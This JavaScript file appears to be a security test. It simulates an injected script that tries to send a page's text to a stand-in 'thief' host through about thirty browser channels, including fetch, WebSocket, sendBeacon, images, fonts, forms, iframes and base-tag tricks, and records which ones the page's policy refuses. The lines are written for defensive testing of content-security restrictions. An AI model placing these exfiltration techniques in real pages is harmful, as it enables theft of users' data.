// A script that got into the page and tries to carry text away. Served by the real web shell as if it were the bundle.
// Each attempt ends as 'refused' or as what it achieved; the test also counts what reached a listening "thief".
const asked = new URLSearchParams(location.hash.slice(1))
const thief = asked.get('thief')
const text = encodeURIComponent(document.getElementById('victim').textContent)
const settle = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds))

/** Resolves with the name of the first of these events. */
const firstOf = (target, events, milliseconds = 2000) =>
  Promise.race([
    ...events.map((name) => new Promise((resolve) => target.addEventListener(name, () => resolve(name)))),
    settle(milliseconds).then(() => 'nothing')
  ])

const append = (tag, properties) => {
  const element = Object.assign(document.createElement(tag), properties)
  document.body.append(element)
  return element
}

const mustThrow = (attempt) => {
  try {
    attempt()
  } catch {
    return 'refused'
  }
  return 'went through'
}
const mustReject = (promise) =>
  promise.then(
    () => 'went through',
    () => 'refused'
  )
const mustFail = async (target, ...wanted) => {
  const event = await firstOf(target, ['load', 'open', 'error', 'close', 'message'])
  return wanted.includes(event) ? 'refused' : event
}

const attempts = {
  'fetch elsewhere': () => mustReject(fetch(`http://${thief}/?${text}`, { mode: 'no-cors' })),
  'fetch from here': () => mustReject(fetch('/')),
  XMLHttpRequest: () => {
    const request = new XMLHttpRequest()
    request.open('POST', `http://${thief}/`)
    request.send(text)
    return mustFail(request, 'error')
  },
  WebSocket: () => mustThrowOrFail(() => new WebSocket(`ws://${thief}/?${text}`)),
  'WebSocket to another port of this computer': () => mustThrowOrFail(() => new WebSocket('ws://127.0.0.1:9/')),
  EventSource: () => mustThrowOrFail(() => new EventSource(`http://${thief}/?${text}`)),
  // It answers true although nothing leaves: the thief tells.
  sendBeacon: () => (navigator.sendBeacon(`http://${thief}/`, text), 'refused'),
  'an image': () => mustFail(append('img', { src: `http://${thief}/?${text}` }), 'error'),
  'a script from elsewhere': () => mustThrowOrFail(() => append('script', { src: `http://${thief}/x.js` })),
  'a style sheet from elsewhere': () =>
    mustFail(append('link', { rel: 'stylesheet', href: `http://${thief}/?${text}` }), 'error'),
  'a font from elsewhere': () => mustReject(new FontFace('x', `url(http://${thief}/?${text})`).load()),
  'an audio file': () =>
    mustFail(append('audio', { src: `http://${thief}/?${text}`, preload: 'auto' }), 'error', 'nothing'),
  'an object': () => mustThrowOrFail(() => append('object', { data: `http://${thief}/?${text}` })),
  'a prefetch': () =>
    mustFail(append('link', { rel: 'prefetch', href: `http://${thief}/?${text}` }), 'error', 'nothing'),
  'an iframe': async () => {
    const frame = append('iframe', { src: `http://${thief}/?${text}` })
    await firstOf(frame, ['load'])
    return mustThrow(() => frame.contentDocument.body.textContent) === 'refused' ? 'refused' : 'went through'
  },
  'a frame of the page itself': async () => {
    const frame = append('iframe', { src: '/' })
    await firstOf(frame, ['load'])
    return mustThrow(() => frame.contentDocument.body.textContent)
  },
  'a form': async () => {
    append('form', { action: `http://${thief}/?${text}`, method: 'post' }).submit()
    await settle(300)
    return 'refused'
  },
  'window.open': () => (window.open(`http://${thief}/?${text}`) === null ? 'refused' : 'went through'),
  'a worker from a blob': () => mustThrowOrFail(() => new Worker(URL.createObjectURL(new Blob([''])))),
  'a service worker from elsewhere': () => mustReject(navigator.serviceWorker.register(`http://${thief}/x.js`)),
  eval: () => mustThrow(() => (0, eval)('1')),
  'new Function': () => mustThrow(() => new Function('return 1')()),
  'a timer with text': () => mustThrow(() => setTimeout('window.timerRan = true')),
  innerHTML: () => mustThrow(() => (document.body.innerHTML += '<img src=x onerror=1>')),
  'document.write': () => mustThrow(() => document.write('<p>')),
  'a javascript: address': () =>
    mustThrow(() => append('iframe', { src: 'javascript:parent.urlRan=true' })) && 'refused',
  'an inline script': () => mustThrow(() => append('script', { text: 'window.addedScriptRan = true' })),
  'a style element': async () => {
    append('style', { textContent: 'body { outline: 7px solid rgb(7, 8, 9) }' })
    return getComputedStyle(document.body).outlineColor === 'rgb(7, 8, 9)' ? 'went through' : 'refused'
  },
  'the cookie': () => (document.cookie === '' ? 'refused' : 'went through'),
  'a base address': () => {
    document.head.append(Object.assign(document.createElement('base'), { href: `http://${thief}/` }))
    return new URL(document.baseURI).host === thief ? 'went through' : 'refused'
  },
  'the camera': () => mustReject(navigator.mediaDevices?.getUserMedia({ video: true }) ?? Promise.reject(new Error())),
  'a preconnect': async () => {
    append('link', { rel: 'preconnect', href: `http://${thief}` })
    await settle(500)
    return 'refused'
  },
  'the place': () =>
    new Promise((resolve) =>
      navigator.geolocation.getCurrentPosition(
        () => resolve('went through'),
        () => resolve('refused')
      )
    )
}

async function mustThrowOrFail(attempt) {
  let target
  try {
    target = attempt()
  } catch {
    return 'refused'
  }
  return mustFail(target, 'error', 'close', 'nothing')
}

const results = {}
for (const [name, attempt] of Object.entries(attempts)) {
  if ((asked.get('only') ?? name) !== name) continue
  try {
    results[name] = await attempt()
  } catch (error) {
    results[name] = `broke: ${error.message}`
  }
}
// Whatever was set in motion has arrived by then.
await settle(500)
results['inline script in the page'] = window.inlineScriptRan === undefined ? 'refused' : 'went through'
results['inline handler in the page'] = window.inlineHandlerRan === undefined ? 'refused' : 'went through'
results['inline style in the page'] =
  getComputedStyle(document.body).outlineWidth === '7px' ? 'went through' : 'refused'
results['style attribute in the page'] =
  getComputedStyle(document.getElementById('victim')).outlineWidth === '7px' ? 'went through' : 'refused'
for (const name of ['timerRan', 'addedScriptRan', 'urlRan']) if (window[name]) results[name] = 'went through'
window.results = results
